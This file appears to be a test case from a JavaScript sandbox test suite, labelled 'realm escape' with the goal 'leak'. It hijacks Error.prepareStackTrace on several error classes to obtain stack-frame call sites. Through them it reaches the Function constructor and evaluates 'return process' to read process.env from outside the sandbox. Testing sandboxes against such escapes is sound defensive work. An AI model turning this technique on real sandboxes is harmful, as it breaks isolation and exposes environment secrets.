// class: realm escape
// goal: leak
// options: {"deadline":2500}
// Call sites and hooks of the engine's stack traces: this, functions and file names of the frames above the module.
export default (pkg) => {
  const out = [];
  const look = (_error, frames) => {
    for (const frame of [].concat(frames)) {
      for (const name of [
        'getThis',
        'getFunction',
        'getFileName',
        'getEvalOrigin',
        'getScriptNameOrSourceURL',
      ]) {
        try {
          const found = frame[name]?.();
          out.push(String(found?.constructor?.constructor?.('return process')?.().env ?? found));
        } catch (error) {
          out.push(error.message);
        }
      }
    }
    return 'x';
  };
  for (const root of [
    Error,
    TypeError,
    RangeError,
    Object.getPrototypeOf(Error),
    globalThis,
    Error.prototype,
  ]) {
    try {
      root.prepareStackTrace = look;
      root.stackTraceLimit = 1e6;
    } catch (error) {
      out.push(error.message);
    }
  }
  const deep = (n) => (n === 0 ? new Error('here').stack : deep(n - 1));
  out.push(String(deep(5)));
  try {
    const target = {};
    Error.captureStackTrace?.(target, deep);
    out.push(String(target.stack));
  } catch (error) {
    out.push(error.message);
  }
  try {
    null.x;
  } catch (error) {
    out.push(String(error.stack));
  }
  return out.join('\n');
};
